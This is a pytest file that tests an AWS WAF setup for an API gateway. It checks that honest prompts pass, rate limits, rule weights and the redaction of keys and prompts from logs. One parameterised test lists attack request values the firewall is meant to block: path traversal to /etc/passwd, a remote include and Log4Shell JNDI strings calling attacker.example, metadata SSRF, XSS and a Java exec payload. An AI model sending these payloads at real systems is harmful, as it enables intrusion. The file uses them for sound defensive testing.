"""The firewall: honest prompts pass, attacks do not, and what it logs shows neither keys nor prompts."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import httpx2
import openai
import pytest
import yaml

from tests.infra.access import Call, allowed
from tests.infra.deployment import ACCOUNT, STAGES, Deployment, deploy
from tests.infra.managed_rules import BODY_LIMIT, FREE_WEIGHT, GROUPS, RATE_WEIGHT, WEIGHTS, Request, blocking, matched

PROMPTS: list[dict[str, Any]] = yaml.safe_load((Path(__file__).parent / "prompts.yaml").read_text())
KEYS = {"api-key", "authorization", "cookie", "x-api-key"}
USER_AGENT = {"host": "gateway.example.com", "user-agent": "curl/8.9"}


def chat(text: str, headers: dict[str, str] | None = None) -> Request:
    """The request in which OpenAI's client sends a prompt."""
    body = json.dumps({"model": "gpt-6.1-terra", "messages": [{"role": "user", "content": text}]}, ensure_ascii=False).encode()
    return Request(method="POST", path="/v1/chat/completions", body=body, headers=headers or USER_AGENT)


def prompts() -> list[Any]:
    return [pytest.param(prompt["text"] * prompt.get("times", 1), set(prompt["rules"]), id=prompt["name"]) for prompt in PROMPTS]


def acl(deployed: Deployment) -> dict[str, Any]:
    return deployed.one("wafv2:WebAcl", "gateway").inputs


def counted(deployed: Deployment) -> set[str]:
    groups = [rule["statement"].get("managedRuleGroupStatement", {}) for rule in acl(deployed)["rules"]]
    return {item["name"] for group in groups for item in group.get("ruleActionOverrides", [])}


@pytest.mark.parametrize(("text", "rules"), prompts())
def test_a_prompt_passes_whatever_rules_find_in_it(deployed: Deployment, text: str, rules: set[str]) -> None:
    assert matched(chat(text)) == rules
    assert blocking(acl(deployed), chat(text)) == set()


def test_each_rule_that_only_counts_would_have_refused_honest_work(deployed: Deployment) -> None:
    """Without the override of a rule, requests of the table above are refused by it: none is there for nothing."""
    honest = [chat(prompt["text"] * prompt.get("times", 1)) for prompt in PROMPTS] + [chat("Hello", {"host": "gateway.example.com"})]
    for name in sorted(counted(deployed)):
        stricter = copy.deepcopy(acl(deployed))
        for rule in stricter["rules"]:
            group = rule["statement"].get("managedRuleGroupStatement", {})
            group["ruleActionOverrides"] = [item for item in group.get("ruleActionOverrides", []) if item["name"] != name]
        assert {name} in [blocking(stricter, request) for request in honest]


def test_every_rule_that_reads_bodies_only_counts_and_no_other_but_one(deployed: Deployment) -> None:
    bodies = {name for group in GROUPS.values() for name in group if name.endswith("_BODY")}
    assert counted(deployed) == bodies | {"NoUserAgent_HEADER"}


def test_the_table_has_long_texts_and_many_kinds() -> None:
    assert max(len(prompt["text"]) * prompt.get("times", 1) for prompt in PROMPTS) > 200_000 > BODY_LIMIT
    assert len({prompt["name"] for prompt in PROMPTS}) == len(PROMPTS) > 20


@pytest.mark.parametrize(
    ("rule", "request_"),
    [
        ("GenericLFI_QUERYARGUMENTS", Request(query="file=../../etc/passwd")),
        ("GenericLFI_QUERYARGUMENTS", Request(query="file=..%2F..%2Fetc%2Fpasswd")),
        ("GenericLFI_URIPATH", Request(path="/v1/../../etc/passwd")),
        ("GenericRFI_QUERYARGUMENTS", Request(query="page=http://203.0.113.7/shell.txt")),
        ("EC2MetaDataSSRF_QUERYARGUMENTS", Request(query="url=//169.254.169.254/latest/meta-data/")),
        ("CrossSiteScripting_QUERYARGUMENTS", Request(query="q=<script>alert(1)</script>")),
        ("CrossSiteScripting_COOKIE", Request(headers=USER_AGENT | {"cookie": "a=<script>alert(1)</script>"})),
        ("RestrictedExtensions_URIPATH", Request(path="/app/settings.ini")),
        ("SizeRestrictions_QUERYSTRING", Request(query="q=" + "a" * 2048)),
        ("SizeRestrictions_Cookie_HEADER", Request(headers=USER_AGENT | {"cookie": "a" * 10241})),
        ("SizeRestrictions_URIPATH", Request(path="/" + "a" * 1024)),
        ("UserAgent_BadBots_HEADER", Request(headers={"host": "gateway.example.com", "user-agent": "Nmap Scripting Engine"})),
        ("Host_localhost_HEADER", Request(headers=USER_AGENT | {"host": "localhost:8080"})),
        ("PROPFIND_METHOD", Request(method="PROPFIND")),
        ("ExploitablePaths_URIPATH", Request(path="/WEB-INF/web.xml")),
        ("Log4JRCE_HEADER", Request(headers=USER_AGENT | {"x-api-version": "${jndi:ldap://attacker.example/a}"})),
        ("Log4JRCE_URIPATH", Request(path="/${jndi:ldap://attacker.example/a}")),
        ("JavaDeserializationRCE_QUERYSTRING", Request(query="x=(java.lang.Runtime).getRuntime().exec('id')")),
    ],
)
def test_an_attack_is_refused(deployed: Deployment, rule: str, request_: Request) -> None:
    assert rule in blocking(acl(deployed), request_)


@pytest.mark.parametrize("path", ["/", "/v1/models", "/v1/chat/completions", "/v1/models/gpt-6.1-terra", "/usage", "/readyz", "/healthz"])
def test_the_gateways_own_paths_pass(deployed: Deployment, path: str) -> None:
    assert blocking(acl(deployed), Request(path=path, query="from=2026-11-01&by=client,model")) == set()


def test_an_address_has_a_rate_and_above_it_openais_error(staging: Deployment) -> None:
    rule = next(rule for rule in acl(staging)["rules"] if "rateBasedStatement" in rule["statement"])
    assert rule["statement"]["rateBasedStatement"] == {"limit": 10000, "aggregateKeyType": "IP", "evaluationWindowSec": 300}
    answer = rule["action"]["block"]["customResponse"]
    (body,) = [item for item in acl(staging)["customResponseBodies"] if item["key"] == answer["customResponseBodyKey"]]
    assert body["contentType"] == "APPLICATION_JSON"
    headers = {item["name"]: item["value"] for item in answer["responseHeaders"]}
    assert "content-type" not in {name.lower() for name in headers}, "AWS refuses that one"

    given = httpx2.Response(answer["responseCode"], headers=headers | {"content-type": "application/json"}, content=body["content"])
    transport = httpx2.MockTransport(lambda _request: given)
    with (
        openai.OpenAI(api_key="gwk-any", max_retries=0, http_client=httpx2.Client(transport=transport)) as client,
        pytest.raises(openai.RateLimitError) as refused,
    ):
        client.models.list()
    assert refused.value.code == "rate_limit_exceeded"
    assert "10000 in 300 seconds" in str(refused.value)
    assert refused.value.response.headers["retry-after"] == "60"


def test_the_rate_is_configuration() -> None:
    rules = acl(deploy("staging", requestsPerAddress=500))["rules"]
    assert [rule["statement"]["rateBasedStatement"]["limit"] for rule in rules if "rateBasedStatement" in rule["statement"]] == [500]


def test_the_rules_are_in_order_and_weigh_what_the_price_includes(deployed: Deployment) -> None:
    rules = acl(deployed)["rules"]
    assert sorted(rule["priority"] for rule in rules) == list(range(len(rules)))
    groups = [rule["statement"]["managedRuleGroupStatement"] for rule in rules if "managedRuleGroupStatement" in rule["statement"]]
    assert {group["vendorName"] for group in groups} == {"AWS"}
    assert {group["name"] for group in groups} == WEIGHTS.keys()
    assert RATE_WEIGHT + sum(WEIGHTS[group["name"]] for group in groups) == 927 <= FREE_WEIGHT
    assert acl(deployed)["defaultAction"] == {"allow": {}}
    assert acl(deployed)["scope"] == "REGIONAL"


def test_it_stands_before_the_balancer_and_the_service_comes_after_it(deployed: Deployment) -> None:
    association = deployed.one("wafv2:WebAclAssociation", "balancer").inputs
    assert deployed.one("wafv2:WebAcl", "gateway").id in association["webAclArn"]
    assert association["resourceArn"] == deployed.outputs["loadBalancerArn"]
    assert ("wafv2:WebAclAssociation", "balancer") in deployed.one("ecs:Service", "gateway").depends_on


@pytest.mark.parametrize("stage", STAGES)
def test_only_refused_requests_are_logged_without_keys_or_prompts(stage: str) -> None:
    deployed = deploy(stage)
    logging = deployed.one("wafv2:WebAclLoggingConfiguration", "firewall").inputs
    kept = {"behavior": "KEEP", "requirement": "MEETS_ANY", "conditions": [{"actionCondition": {"action": "BLOCK"}}]}
    assert logging["loggingFilter"] == {"defaultBehavior": "DROP", "filters": [kept]}
    assert {item["singleHeader"]["name"] for item in logging["redactedFields"]} == KEYS
    hidden = [item["field"] for item in acl(deployed)["dataProtectionConfig"]["dataProtections"] if item["action"] == "SUBSTITUTION"]
    assert {name for item in hidden if item["fieldType"] == "SINGLE_HEADER" for name in item["fieldKeys"]} == KEYS
    assert "BODY" in {item["fieldType"] for item in hidden}


def test_its_log_has_the_name_that_aws_demands_a_key_and_an_end(deployed: Deployment) -> None:
    group = deployed.one("cloudwatch:LogGroup", "firewall")
    name = group.inputs["name"]
    assert name == f"aws-waf-logs-{deployed.outputs['cluster']}"
    assert deployed.one("kms:Key", "key").id in group.inputs["kmsKeyId"]
    assert group.inputs["retentionInDays"] == deployed.one("cloudwatch:LogGroup", "app").inputs["retentionInDays"]
    context = {"kms:EncryptionContext:aws:logs:arn": f"arn:aws:logs:us-east-1:{ACCOUNT}:log-group:{name}"}
    encrypt = Call("kms:Encrypt", principal={"Service": "logs.us-east-1.amazonaws.com"}, context=context)
    assert allowed(deployed.policy("kms:Key", "key"), encrypt), "AWS refuses a group whose key does not let it in"


def test_the_log_takes_this_accounts_lines_only(deployed: Deployment) -> None:
    (statement,) = deployed.policy("cloudwatch:LogResourcePolicy", "firewall", "policyDocument")
    assert statement["Principal"] == {"Service": "delivery.logs.amazonaws.com"}
    assert set(statement["Action"]) == {"logs:CreateLogStream", "logs:PutLogEvents"}
    (resource,) = statement["Resource"]
    assert deployed.one("cloudwatch:LogGroup", "firewall").id in resource
    assert statement["Condition"] == {
        "StringEquals": {"aws:SourceAccount": ACCOUNT},
        "ArnLike": {"aws:SourceArn": f"arn:aws:logs:us-east-1:{ACCOUNT}:*"},
    }
    written = deployed.one("wafv2:WebAclLoggingConfiguration", "firewall")
    assert ("cloudwatch:LogResourcePolicy", "firewall") in written.depends_on
